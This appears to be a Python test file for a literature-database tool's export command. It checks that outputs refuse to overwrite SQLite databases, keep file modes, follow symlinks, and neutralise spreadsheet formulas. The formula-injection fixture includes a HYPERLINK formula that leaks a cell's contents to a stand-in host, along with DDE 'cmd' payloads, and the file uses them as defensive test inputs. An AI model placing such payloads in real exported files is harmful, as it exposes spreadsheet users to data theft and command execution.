"""Output files (issue 8, items 1, 11, 13): never onto a database, spreadsheet formulas neutralised,
an overwritten file keeps its mode, a symlink is written through."""

# SQLite only: output files next to a database file; a PostgreSQL database has no file to protect.

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat

import pytest

from hostile.conftest import PLAIN_RECORD, digest, one_line_error, run_cli
from litwatch.errors import LitwatchError
from litwatch.fileio import atomic_writer, check_output_path
from litwatch.formats.tabular import CSV_COLUMNS, neutralise_cell

# --- item 1: an output never replaces a database --------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["export", "-o", "{db}"],
        ["export", "--format", "csv", "-o", "{db}"],
        ["check", "--format", "json", "-o", "{db}"],
        ["check", "--format", "md", "-o", "{db}-wal"],
        ["check", "--format", "html", "-o", "{db}-shm"],
        ["export", "-o", "{db}-journal"],
    ],
)
def test_output_onto_the_database_or_its_side_files_is_refused(build_db, tmp_path, command):
    db = build_db()
    before = digest(db)
    side_files = {p.name for p in tmp_path.iterdir()}
    result = run_cli(*(part.format(db=db) for part in command), "--db", db)
    line = one_line_error(result)
    assert "is the database" in line and "choose another file name" in line
    assert digest(db) == before
    assert {p.name for p in tmp_path.iterdir()} == side_files  # no -wal/-shm/-journal written either
    assert run_cli("status", "--db", db).exit_code == 0


def test_output_through_a_symlink_or_hard_link_to_the_database_is_refused(build_db, tmp_path):
    db = build_db()
    before = digest(db)
    (tmp_path / "report.html").symlink_to(db)
    os.link(db, tmp_path / "hard.csv")
    for out in ("report.html", "hard.csv"):
        line = one_line_error(run_cli("export", "-f", "csv", "-o", tmp_path / out, "--db", db))
        assert "is the database" in line
    assert digest(db) == before and (tmp_path / "report.html").is_symlink()


def test_output_onto_any_other_sqlite_file_is_refused(build_db, tmp_path):
    db = build_db()
    other = tmp_path / "zotero.sqlite"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, title TEXT)")
        conn.execute("INSERT INTO items (title) VALUES ('precious')")
    conn.close()
    before = digest(other)
    for command in (["export", "-o", other], ["check", "-f", "html", "-o", other]):
        line = one_line_error(run_cli(*command, "--db", db))
        assert "is a SQLite database and would be destroyed" in line
    assert digest(other) == before


def test_output_onto_a_sqlite_side_file_is_refused_by_content_and_name(tmp_path):
    base = tmp_path / "other.db"
    with sqlite3.connect(base) as conn:
        conn.execute("CREATE TABLE t (x)")
    conn.close()
    shm = tmp_path / "other.db-shm"
    shm.write_bytes(bytes(64))  # -shm has no header: recognised by its name beside a database
    wal = tmp_path / "renamed.log"
    wal.write_bytes(b"\x37\x7f\x06\x82" + bytes(28))  # a WAL header under any name
    with pytest.raises(LitwatchError, match="-shm file of SQLite database"):
        check_output_path(shm, what="export")
    with pytest.raises(LitwatchError, match="write-ahead log"):
        check_output_path(wal, what="export")
    assert shm.read_bytes() == bytes(64)


def test_demo_refuses_its_report_onto_its_database_before_any_work(tmp_path):
    db = tmp_path / "demo.db"
    line = one_line_error(run_cli("demo", "--db", db, "-o", db))
    assert "is the database" in line
    assert not db.exists()


# --- item 11: CSV formula injection ------------------------------------------------------------------

HOSTILE_CSV_RECORD = """\
PMID- 99000011
TI  - =HYPERLINK("http://evil.example/?leak="&A1,"Click for the full text")
AB  - +cmd|' /C calc'!A0
JT  - @SUM(1+1)*cmd|' /C calc'!A0
DP  - 2024
PT  - -2+3+cmd|' /C calc'!A0
OT  - =1+1
FAU - =Evil, Eve
AU  - =Evil E
"""


def test_csv_export_neutralises_formulas_in_every_text_column(build_db, tmp_path):
    db = build_db(PLAIN_RECORD + "\n" + HOSTILE_CSV_RECORD)
    result = run_cli("export", "--format", "csv", "--db", db)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == list(CSV_COLUMNS)
    hostile = next(r for r in rows if r["pmid"] == "99000011")
    assert hostile == {
        "pmid": "99000011",
        "year": "2024",
        "title": '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full text")',
        "journal": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "doi": "",
        "pmcid": "",
        "authors": "'=Evil E",
        "publication_types": "'-2+3+cmd|' /C calc'!A0",
        "mesh": "",
        "keywords": "'=1+1",
        "retracted": "false",
        "deleted": "false",
        "abstract": "'+cmd|' /C calc'!A0",
    }
    plain = next(r for r in rows if r["pmid"] == "99000002")
    assert plain["title"].startswith("Ketamine 0.5 mg/kg") and plain["year"] == "2023"
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text columns only: PMIDs and years are digits and never start with "-"
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ketamine = esketamine?", "Ketamine = esketamine?"),
        ("2023", "2023"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell, expected):
    assert neutralise_cell(cell) == expected


# --- item 13: mode and symlinks -------------------------------------------------------------------


def test_overwriting_an_existing_output_keeps_its_mode(build_db, tmp_path):
    db = build_db()
    out = tmp_path / "private.ris"
    out.write_text("old\n")
    out.chmod(0o600)
    assert run_cli("export", "-f", "ris", "-o", out, "--db", db).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "99000002" in out.read_text()
    report = tmp_path / "report.html"
    report.write_text("old")
    report.chmod(0o640)
    assert run_cli("check", "-o", report, "--db", db).exit_code == 0
    assert stat.S_IMODE(report.stat().st_mode) == 0o640 and report.read_text().startswith("<!doctype")


def test_a_new_output_follows_the_umask(build_db, tmp_path):
    db = build_db()
    old = os.umask(0o077)
    try:
        assert run_cli("export", "-o", tmp_path / "new.jsonl", "--db", db).exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.jsonl").stat().st_mode) == 0o600


def test_an_output_symlink_is_written_through_and_stays_a_link(build_db, tmp_path):
    db = build_db()
    target_dir = tmp_path / "elsewhere"
    target_dir.mkdir()
    target = target_dir / "refs.bib"
    target.write_text("old\n")
    target.chmod(0o600)
    link = tmp_path / "refs.bib"
    link.symlink_to(target)
    assert run_cli("export", "-f", "bibtex", "-o", link, "--db", db).exit_code == 0
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert "@article{" in target.read_text() and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in target_dir.iterdir()] == ["refs.bib"]  # no temp file left behind
    dangling = tmp_path / "dangling.jsonl"
    dangling.symlink_to(target_dir / "created.jsonl")
    assert run_cli("export", "-o", dangling, "--db", db).exit_code == 0
    assert dangling.is_symlink() and '"pmid": "99000002"' in (target_dir / "created.jsonl").read_text()


def test_a_symlink_loop_is_refused(tmp_path):
    loop = tmp_path / "loop.csv"
    loop.symlink_to(tmp_path / "loop.csv")
    with pytest.raises(LitwatchError, match="symlink loop"), atomic_writer(loop, what="export") as fh:
        fh.write("x")
    assert loop.is_symlink()
